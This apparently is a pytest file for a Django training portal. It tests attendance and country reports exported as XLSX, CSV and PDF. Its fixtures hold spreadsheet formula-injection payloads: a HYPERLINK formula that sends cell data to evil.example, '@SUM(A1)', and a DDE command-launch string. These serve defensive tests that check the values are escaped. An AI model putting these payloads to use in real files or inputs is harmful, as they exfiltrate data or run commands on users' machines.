"""Attendance and country reports as MOHW, IVI and WHO read them: XLSX and CSV read back cell by cell,
the PDF read back with poppler's pdftotext, and query counts that do not grow with the cohort."""

import datetime as dt
import io
import re
import subprocess

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from certificates.models import Certificate, CertificateStatus
from cohorts.models import CourseSession, EnrolmentStatus
from cohorts.services import attendance_mark, facility_visit_set_participants
from hubportal.jobs.models import JobStatus
from hubportal.jobs.services import job_create, job_run
from reports.builders import attendance_report, country_report
from reports.services import ReportKind
from tests.trainees.factories import CountryFactory

from ..cohorts.factories import CourseSessionFactory, EnrolmentFactory, FacilityVisitFactory, TimetableSlotFactory
from ..hubportal.test_exports import exported_csv_rows

pytestmark = pytest.mark.django_db

MATRIX_HEADERS = ["Country", "WHO region", "Family name", "Given name", "Name in native script", "Enrolment status",
                  "2022-07-18", "2022-07-19", "2022-07-28", "Attendance rate (%)"]
FORMULA_FAMILY_NAME = '=HYPERLINK("http://evil.example/?"&A2,"Open")'


def korea():
    return CountryFactory(code="KR")


def kenya():
    return CountryFactory(code="KE")


def enrol(session, country, given, family, native="", status=EnrolmentStatus.ATTENDED):
    return EnrolmentFactory(session=session, status=status, trainee__country=country, trainee__given_name=given,
                            trainee__family_name=family, trainee__native_name=native)


def mark(occasion, statuses):
    kind = "visit" if hasattr(occasion, "participants") else "slot"
    attendance_mark(actor=None, statuses={e.pk: s for e, s in statuses.items()}, **{kind: occasion})


@pytest.fixture
def july():
    """Two slots on Monday, one on Tuesday, a facility visit on the last Thursday; four trainees.

    | trainee (country)        | Mon 18: 09:30, 14:00 | Tue 19  | Thu 28 visit     | rate            |
    | Ama MENSAH (Ghana)       | present, present     | late    | present          | 4 / 4 = 100     |
    | Kofi BOATENG (Ghana)     | excused, absent      | –       | not marked       | 0 / 1 = 0       |
    | formula name (Kenya)     | –, –                 | –       | not a participant| none marked     |
    | Jihoon KIM 김지훈 (Korea) | present, late        | absent  | not a participant| 2 / 3 = 66.7    |
    Plus a nominated trainee without marks, who is not in the report.
    """
    session = CourseSessionFactory(code="BDM-2022-07", completion_threshold=80)
    monday, tuesday = dt.date(2022, 7, 18), dt.date(2022, 7, 19)
    morning = TimetableSlotFactory(session=session, date=monday, start_time=dt.time(9, 30), end_time=dt.time(12, 30))
    afternoon = TimetableSlotFactory(session=session, date=monday, start_time=dt.time(14), end_time=dt.time(17))
    tuesday_slot = TimetableSlotFactory(session=session, date=tuesday, start_time=dt.time(9, 30),
                                        end_time=dt.time(12, 30))
    visit = FacilityVisitFactory(session=session, capacity=80)  # Thursday 28 July, 09:00 in Seoul

    ghana = CountryFactory()
    ama = enrol(session, ghana, "Ama", "Mensah")
    kofi = enrol(session, ghana, "Kofi", "Boateng")
    enrol(session, kenya(), "@SUM(A1)", FORMULA_FAMILY_NAME, status=EnrolmentStatus.CONFIRMED)
    kim = enrol(session, korea(), "Jihoon", "Kim", native="김지훈")
    enrol(session, ghana, "Nana", "Nominated", status=EnrolmentStatus.NOMINATED)

    facility_visit_set_participants(actor=None, visit=visit, enrolments=[ama, kofi])
    mark(morning, {ama: "present", kofi: "excused", kim: "present"})
    mark(afternoon, {ama: "present", kofi: "absent", kim: "late"})
    mark(tuesday_slot, {ama: "late", kim: "absent"})
    mark(visit, {ama: "present"})
    return session


def fresh(session) -> CourseSession:
    """The session as a job's worker gets it: nothing loaded with it."""
    return CourseSession.objects.get(pk=session.pk)


def sheet_table(sheet, first_header: str) -> list[list]:
    """The rows of a report sheet from its header row (under the title block) to its last table row."""
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    start = next(i for i, row in enumerate(rows) if row[0] == first_header)
    table = []
    for row in rows[start:]:
        if all(value is None for value in row):
            break
        table.append(row)
    return table


def workbook(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def pdftotext_layout(data: bytes, tmp_path) -> str:
    path = tmp_path / "report.pdf"
    path.write_bytes(data)
    return subprocess.run(["pdftotext", "-layout", "-enc", "UTF-8", str(path), "-"], check=True,
                          capture_output=True, text=True).stdout


# --- The attendance report -------------------------------------------------------------------------


def test_xlsx_matrix_has_a_row_per_trainee_by_country_then_family_name_with_each_days_letters_and_rate(july):
    data, extension = attendance_report(fresh(july), "xlsx", actor=None)

    assert extension == "xlsx"
    book = workbook(data)
    assert book.sheetnames == ["Attendance", "By day", "By country", "By WHO region"]
    header, *rows = sheet_table(book["Attendance"], "Country")
    assert header == MATRIX_HEADERS
    assert rows == [
        # Two slots alike: one letter; different: one per slot in time order; a visit only for its participants.
        ["Ghana", "AFR", "Boateng", "Kofi", None, "Attended", "E A", "–", "–", 0],
        ["Ghana", "AFR", "Mensah", "Ama", None, "Attended", "P", "L", "P", 100],
        ["Kenya", "AFR", "'" + FORMULA_FAMILY_NAME, "'@SUM(A1)", None, "Confirmed", "–", "–", None, "–"],
        ["South Korea", "WPR", "Kim", "Jihoon", "김지훈", "Attended", "P L", "A", None, 66.7],
    ]
    title = [row[0] for row in book["Attendance"].iter_rows(max_row=4, values_only=True)]
    assert title[0] == "Attendance report"
    assert title[1].startswith("BDM-2022-07 · ")
    assert title[2].startswith("18 – 29 July 2022 · Seoul National University")


def test_xlsx_by_day_counts_the_marks_of_each_status_and_what_is_not_marked(july):
    header, *rows, total = sheet_table(workbook(attendance_report(fresh(july), "xlsx", actor=None)[0])["By day"], "Date")

    assert header == ["Date", "Day", "Slots", "Visits", "Present", "Late", "Absent", "Excused", "Not marked",
                      "Attendance (%)"]
    assert rows == [
        ["2022-07-18", "Monday", 2, 0, 3, 1, 1, 1, 2, 80.0],
        ["2022-07-19", "Tuesday", 1, 0, 0, 1, 1, 0, 2, 50.0],
        ["2022-07-28", "Thursday", 0, 1, 1, 0, 0, 0, 1, 100.0],
    ]
    assert total == ["Total", None, 3, 1, 4, 2, 2, 1, 5, 75.0]


def test_xlsx_summarises_by_country_and_who_region_against_the_sessions_threshold(july):
    book = workbook(attendance_report(fresh(july), "xlsx", actor=None)[0])

    assert sheet_table(book["By country"], "Country") == [
        ["Country", "Trainees", "Average attendance rate (%)", "At or above 80%"],
        ["Ghana", 2, 50.0, 1],
        ["Kenya", 1, "–", 0],  # nothing marked yet: no average
        ["South Korea", 1, 66.7, 0],
        ["Total", 4, 55.6, 1],
    ]
    assert sheet_table(book["By WHO region"], "WHO region") == [
        ["WHO region", "Region", "Trainees", "Average attendance rate (%)", "At or above 80%"],
        ["AFR", "African Region", 3, 50.0, 1],
        ["WPR", "Western Pacific Region", 1, 66.7, 0],
        ["Total", None, 4, 55.6, 1],
    ]


def test_csv_is_the_matrix_with_rates_in_utf8_with_a_bom(july):
    data, extension = attendance_report(fresh(july), "csv", actor=None)

    assert extension == "csv"
    header, *rows = exported_csv_rows(data)  # asserts the BOM
    assert header == MATRIX_HEADERS
    assert rows == [
        ["Ghana", "AFR", "Boateng", "Kofi", "", "Attended", "E A", "–", "–", "0.0"],
        ["Ghana", "AFR", "Mensah", "Ama", "", "Attended", "P", "L", "P", "100.0"],
        ["Kenya", "AFR", "'" + FORMULA_FAMILY_NAME, "'@SUM(A1)", "", "Confirmed", "–", "–", "", "–"],
        ["South Korea", "WPR", "Kim", "Jihoon", "김지훈", "Attended", "P L", "A", "", "66.7"],
    ]


def test_formula_like_text_is_a_plain_string_in_every_sheet_and_in_the_csv(july):
    july.venue = "=cmd|'/c calc'!A1"
    july.save()
    book = workbook(attendance_report(fresh(july), "xlsx", actor=None)[0])
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip().startswith(("=", "+", "-", "@")), (sheet.title, cell.value)
    text = attendance_report(fresh(july), "csv", actor=None)[0].decode("utf-8-sig")
    assert "'" + FORMULA_FAMILY_NAME.replace('"', '""') in text
    assert not re.search(r'(^|,)"?[=+@-]', text, re.MULTILINE)


def test_pdf_shows_names_in_their_scripts_the_days_letters_and_the_totals(july, tmp_path):
    data, extension = attendance_report(fresh(july), "pdf", actor=None)

    assert extension == "pdf"
    text = pdftotext_layout(data, tmp_path)
    assert "BDM-2022-07" in text and "Attendance report" in text
    assert "18 – 29 July 2022" in text
    assert re.search(r"Ama MENSAH\s+P\s+L\s+P\s+100\.0", text)
    assert re.search(r"Jihoon KIM\s+김지훈\s+P L\s+A\s+66\.7", text)
    assert re.search(r"Kofi BOATENG\s+E A\s+–\s+–\s+0\.0", text)
    # The day totals, one column per day: Monday, Tuesday, Thursday (the visit).
    assert re.search(r"Present \(P\)\s+3\s+0\s+1\n", text)
    assert re.search(r"Late \(L\)\s+1\s+1\s+0\n", text)
    assert re.search(r"Absent \(A\)\s+1\s+1\s+0\n", text)
    assert re.search(r"Excused \(E\)\s+1\s+0\s+0\n", text)
    assert re.search(r"Not marked \(–\)\s+2\s+2\s+1\n", text)
    # The summaries.
    assert re.search(r"Ghana\s+2\s+50\.0\s+1\n", text)
    assert re.search(r"WPR\s+Western Pacific Region\s+1\s+66\.7\s+0\n", text)
    assert "NOMINATED" not in text  # a nominated trainee holds no seat: not in the report


def test_pdf_is_a4_landscape(july, tmp_path):
    path = tmp_path / "report.pdf"
    path.write_bytes(attendance_report(fresh(july), "pdf", actor=None)[0])
    info = subprocess.run(["pdfinfo", str(path)], check=True, capture_output=True, text=True).stdout
    assert re.search(r"Page size:\s+841\.89 x 595\.27\d* pts \(A4\)", info)


def test_a_trainee_who_withdrew_after_being_marked_stays_in_the_report(july):
    late_leaver = enrol(july, CountryFactory(), "Yaw", "Asante", status=EnrolmentStatus.WITHDRAWN)
    mark(july.slots.get(date=dt.date(2022, 7, 18), start_time=dt.time(9, 30)), {late_leaver: "present"})

    header, *rows = sheet_table(workbook(attendance_report(fresh(july), "xlsx", actor=None)[0])["Attendance"], "Country")

    assert ["Ghana", "AFR", "Asante", "Yaw", None, "Withdrawn", "P –", "–", None, 100] in rows
    assert not any(row[2] == "Nominated" for row in rows)


def test_an_unknown_format_is_refused(july):
    with pytest.raises(ValueError, match="docx"):
        attendance_report(july, "docx", actor=None)
    with pytest.raises(ValueError):
        country_report("html", actor=None)


def add_marked_trainees(session, count):
    slots = list(session.slots.all())
    visit = session.visits.get()
    enrolments = [enrol(session, CountryFactory(), f"Extra{n}", f"Trainee{n}", native=f"학생{n}") for n in range(count)]
    facility_visit_set_participants(actor=None, visit=visit, enrolments=[*visit.participants.all(), *enrolments])
    for occasion in [*slots, visit]:
        mark(occasion, {e: "present" for e in enrolments})


@pytest.mark.parametrize("fmt", ["pdf", "xlsx", "csv"])
def test_the_number_of_queries_does_not_grow_with_the_cohort(july, fmt, django_assert_num_queries):
    add_marked_trainees(july, 3)
    with CaptureQueriesContext(connection) as small:
        attendance_report(fresh(july), fmt, actor=None)

    add_marked_trainees(july, 30)
    with django_assert_num_queries(len(small.captured_queries)):
        attendance_report(fresh(july), fmt, actor=None)


def test_the_worker_saves_the_report_a_staff_member_asked_for(july, hub_staff):
    job = job_create(actor=hub_staff, kind=ReportKind.ATTENDANCE_REPORT, session=july, enqueue=False, format="xlsx")

    job_run(job.pk)

    job.refresh_from_db()
    assert job.status == JobStatus.DONE
    assert job.result.name.endswith(".xlsx") and "BDM-2022-07-attendance" in job.result.name
    with job.result.open("rb") as file:
        assert "Attendance" in workbook(file.read()).sheetnames


# --- The country report ------------------------------------------------------------------------------


def certify(enrolment, number, *, revoked=False):
    session = enrolment.session
    return Certificate.objects.create(
        enrolment=enrolment, course=session.course, year=2022, number=number, serial=f"BDM-2022-{number:04d}",
        holder_name=enrolment.trainee.full_name, course_title=session.course.title, start_date=session.start_date,
        end_date=session.end_date, learning_hours=36, issued_at=timezone.now(),
        status=CertificateStatus.REVOKED if revoked else CertificateStatus.VALID,
        revoked_at=timezone.now() if revoked else None,
    )


@pytest.fixture
def two_sessions():
    """Ghana: Ama in both sessions (completed twice, one certificate revoked), Kofi withdrew; Korea: Kim
    completed with a certificate; Kenya: one trainee still nominated."""
    july = CourseSessionFactory(code="BDM-2022-07")
    october = CourseSessionFactory(code="GXP-2022-10", start_date=dt.date(2022, 10, 17),
                                   end_date=dt.date(2022, 10, 21))
    ghana = CountryFactory()
    ama = enrol(july, ghana, "Ama", "Mensah", status=EnrolmentStatus.COMPLETED)
    ama_again = EnrolmentFactory(session=october, trainee=ama.trainee, status=EnrolmentStatus.COMPLETED)
    enrol(july, ghana, "Kofi", "Boateng", status=EnrolmentStatus.WITHDRAWN)
    enrol(october, ghana, "Esi", "Owusu", status=EnrolmentStatus.ATTENDED)
    kim = enrol(july, korea(), "Jihoon", "Kim", native="김지훈", status=EnrolmentStatus.COMPLETED)
    enrol(october, kenya(), "Wanjiru", "Kamau", status=EnrolmentStatus.NOMINATED)
    certify(ama, 1)
    certify(ama_again, 2, revoked=True)
    certify(kim, 3)


COUNTRY_HEADERS = ["Country", "ISO code", "WHO region", "Trainees", "Enrolments", "Took part", "Completed",
                   "Certificates issued", "Completion rate (%)"]


def test_country_report_counts_trainees_once_enrolments_completions_and_valid_certificates(two_sessions):
    data, extension = country_report(actor=None)

    assert extension == "xlsx"
    book = workbook(data)
    assert book.sheetnames == ["By country", "By WHO region"]
    assert sheet_table(book["By country"], "Country") == [
        COUNTRY_HEADERS,
        ["Ghana", "GH", "AFR", 3, 4, 3, 2, 1, 66.7],
        ["Kenya", "KE", "AFR", 1, 1, 0, 0, 0, "–"],
        ["South Korea", "KR", "WPR", 1, 1, 1, 1, 1, 100.0],
        ["Total", None, None, 5, 6, 4, 3, 2, 75.0],
    ]
    assert sheet_table(book["By WHO region"], "WHO region") == [
        ["WHO region", "Region", *COUNTRY_HEADERS[3:]],
        ["AFR", "African Region", 4, 5, 3, 2, 1, 66.7],
        ["WPR", "Western Pacific Region", 1, 1, 1, 1, 1, 100.0],
        ["Total", None, 5, 6, 4, 3, 2, 75.0],
    ]


def test_country_report_as_csv_and_pdf(two_sessions, tmp_path):
    data, extension = country_report("csv", actor=None)
    assert extension == "csv"
    header, *rows, total = exported_csv_rows(data)
    assert header == COUNTRY_HEADERS
    assert rows[0] == ["Ghana", "GH", "AFR", "3", "4", "3", "2", "1", "66.7"]
    assert total == ["Total", "", "", "5", "6", "4", "3", "2", "75.0"]

    data, extension = country_report("pdf", actor=None)
    assert extension == "pdf"
    text = pdftotext_layout(data, tmp_path)
    assert "2 course sessions · 18 July – 21 October 2022" in text
    assert re.search(r"South Korea\s+KR\s+WPR\s+1\s+1\s+1\s+1\s+1\s+100\.0", text)
    assert re.search(r"Total\s+5\s+6\s+4\s+3\s+2\s+75\.0", text)


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "pdf"])
def test_country_report_queries_do_not_grow_with_trainees(fmt, django_assert_num_queries):
    session = CourseSessionFactory()
    for n in range(3):
        enrol(session, CountryFactory(), f"A{n}", "Small", status=EnrolmentStatus.COMPLETED)
    with CaptureQueriesContext(connection) as small:
        country_report(fmt, actor=None)

    for n in range(30):
        enrol(session, korea() if n % 2 else kenya(), f"B{n}", "Large", status=EnrolmentStatus.COMPLETED)
    with django_assert_num_queries(len(small.captured_queries)):
        country_report(fmt, actor=None)
